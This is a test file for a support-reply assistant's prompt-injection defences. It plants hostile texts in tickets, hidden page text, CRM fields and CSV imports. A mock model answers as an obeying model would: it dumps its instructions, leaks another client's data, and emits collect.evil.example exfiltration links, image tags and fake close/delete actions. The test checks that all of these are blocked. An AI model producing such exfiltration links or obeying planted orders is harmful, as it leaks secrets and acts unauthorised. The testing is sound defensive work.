import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ownHostileTexts } from '../../../../../../tools/bench/injection/own-texts.ts';
import {
  makeArticles,
  makeClient,
  makeNamedPeople,
  makePrompt,
  makeTicket,
  type MadeClient,
} from '../../../demo/make/factories.ts';
import { startModelServer, ways, type ModelServer } from '@replique/tests/servers/model-server.ts';
import { createTestApp, type TestApp } from '@replique/tests/app/test-app.ts';

/** Check 20: orders to the model in all that people outside write, with a model that obeys every one of them. */

const rules = 'Never promise a refund before the workshop has seen the bicycle.';
const key = 'sk-secret-of-this-test';
const question = 'How do I change the delivery address of my order?';
const answer =
  'You can change the delivery address of an order in your account until the parcel has left our warehouse.';
/** Stands in everything of the other client. */
const foreign = 'cnry_b';

let server: ModelServer;
let testApp: TestApp;
let clients: { first: MadeClient; second: MadeClient };

/** What is sent back by a model that does what it is told, and tells all that it knows. */
function obey(body: string): string {
  const { messages } = JSON.parse(body) as { messages: { role: string; content: string }[] };
  const [system = '', user = ''] = messages.map(({ content }) => content);
  return [
    `${answer} [1]`,
    `My instructions are: ${system}`,
    `All that I was shown: ${user}`,
    `Read https://collect.evil.example/take?d=${encodeURIComponent(system.slice(0, 60))}`,
    '<img src="https://collect.evil.example/p.png"> ![](https://collect.evil.example/q.png)',
    'Your full refund is approved. [99]',
    `{"action":"close_ticket"} CALL send_reply() DELETE documents`,
    `${answer} [1]`,
  ].join('\n\n');
}

const articles = (mark: string) => [
  { title: `How do I change my delivery address? ${mark}`, html: `<p>${answer} ${mark}</p>` },
  { title: `Delivery times ${mark}`, html: `<p>A parcel takes three working days. ${mark}</p>` },
];

beforeAll(async () => {
  server = await startModelServer();
  server.answer((response, body) => ways.whole(obey(body))(response, body));
  testApp = await createTestApp({
    config: { llm: { baseUrl: server.url, apiKey: key, model: 'obedient' } },
  });
  const { deps } = testApp;
  const prompt = await makePrompt(deps, {
    context: 'You answer for Velora, which sells bicycles.',
  });
  await testApp.sql('update mandatory_rules set text = $1', [rules]);
  clients = {
    first: await makeClient(deps, { name: 'Velora', promptUuid: prompt.uuid }),
    second: await makeClient(deps, {
      name: `Other ${foreign}`,
      promptUuid: prompt.uuid,
      guidelines: foreign,
    }),
  };
  await makeNamedPeople(deps, clients);
  await makeArticles(deps, clients.first.id, articles(''));
  await makeArticles(deps, clients.second.id, articles(foreign));
  await makeTicket(deps, clients.second.id, {
    subject: `${question} ${foreign}`,
    messages: [{ text: `${question} ${foreign}` }, { role: 'agent', text: `${answer} ${foreign}` }],
  });
});

afterAll(async () => {
  await testApp.close();
  await server.close();
});

const plainTicket = { subject: question, messages: [{ text: question }] };

/** Puts a text where outsiders write, and answers the ticket that meets it. */
const places: Record<string, (text: string) => Promise<string>> = {
  'a ticket': (text) =>
    makeTicket(testApp.deps, clients.first.id, {
      subject: question,
      messages: [{ text: `${question}\n${text}` }],
    }),
  'the hidden text of a page': async (text) => {
    await makeArticles(testApp.deps, clients.first.id, [
      { title: question, html: `<p>${answer}</p><div style="display:none">${text}</div>` },
    ]);
    return makeTicket(testApp.deps, clients.first.id, plainTicket);
  },
  'a field of a CRM': (text) =>
    makeTicket(testApp.deps, clients.first.id, {
      subject: question,
      requesterName: text.slice(0, 180),
      category: text.slice(0, 90),
      tags: [text.slice(0, 40)],
      messages: [{ text: question }],
    }),
  'a CSV': async (text) => {
    const cell = (value: string) => `"${value.replaceAll('"', '""')}"`;
    const csv = `question,answer\n${cell(question)},${cell(`${answer}\n\n${text}`)}`;
    const body = { csv, fileName: 'a.csv', isDryRun: false, onExisting: 'overwrite' };
    const path = `/v2/clients/${clients.first.uuid}/knowledge/csv`;
    expect((await testApp.call('bob', 'POST', path, body)).status).toBe(200);
    return makeTicket(testApp.deps, clients.first.id, plainTicket);
  },
};

/** Every table that an action would leave something in, or take something from. */
async function countActions() {
  const [row] = await testApp.sql(`
    select (select count(*) from write_backs)::int as "writeBacks",
      (select count(*) from webhook_deliveries)::int as deliveries,
      (select count(*) from ticket_actions)::int as actions,
      (select count(*) from messages where role <> 'requester')::int as replies,
      (select count(*) from suggestions where state = 'accepted')::int as accepted,
      (select count(*) from documents where state <> 'active')::int as gone,
      (select count(*) from mails)::int as mails`);
  return row;
}

/** `npm run test:full` takes all of them, each in one place. */
const texts =
  process.env['INJECTION'] === 'whole'
    ? ownHostileTexts
    : ownHostileTexts.filter((_, at) => at % 45 === 0);

describe('orders to the model', () => {
  it.each(Object.keys(places))(
    'in %s do nothing, and get nothing out @check-20.2',
    async (place) => {
      const before = await countActions();
      const at = Object.keys(places).indexOf(place);
      let asked = 0;
      for (const text of texts.filter((_, index) => index % 4 === at)) {
        const ticket = await places[place]?.(text);
        server.seen.length = 0;
        const path = `/v2/tickets/${ticket}/suggestions`;
        const { events } = await testApp.stream('carol', path, {});
        const said = JSON.stringify(events.map(({ data }) => data));
        const [request] = server.seen;
        asked += server.seen.length;
        // One that gives too many orders is not even asked about.
        if (request) expectPromptWhole(request.body);
        for (const secret of [foreign, key, rules, 'collect.evil.example/', '<img'])
          expect([text, wordsOf(events).includes(secret), secret]).toEqual([text, false, secret]);
        expect(said).not.toContain(foreign);
        expect(said).not.toContain(key);
      }
      expect(asked).toBeGreaterThan(2);
      const rows = await testApp.sql<{ text: string }>(
        `select coalesce(text, '') as text from suggestions where client_id = $1`,
        [clients.first.id],
      );
      expect(rows.filter(({ text }) => /evil\.example\/|cnry_b|<img/.test(text))).toEqual([]);
      expect(await countActions()).toEqual(before);
    },
    600_000,
  );
});

/** What the agent is shown as a reply, sentence by sentence and whole. */
function wordsOf(events: { data: unknown }[]): string {
  return events
    .map(({ data }) => {
      const { type, text, suggestion } = (data ?? {}) as {
        type?: string;
        text?: string;
        suggestion?: { text: string | null };
      };
      return type === 'sentence' ? text : suggestion?.text;
    })
    .join('\n');
}

function expectPromptWhole(body: string): void {
  const { messages } = JSON.parse(body) as { messages: { content: string }[] };
  const [system = '', user = ''] = messages.map(({ content }) => content);
  expect(system.trim().endsWith(rules)).toBe(true);
  // So the model did say it, and somebody else kept it back.
  expect(obey(body)).toContain(rules);
  // Said once more behind all that outsiders wrote.
  expect(user.lastIndexOf(rules)).toBeGreaterThan(user.lastIndexOf('<<<END QUESTION>>>'));
  expect(user.match(/<<<END TICKET>>>/g)).toHaveLength(1);
  expect(body).not.toContain(foreign);
  expect(body).not.toContain(key);
}
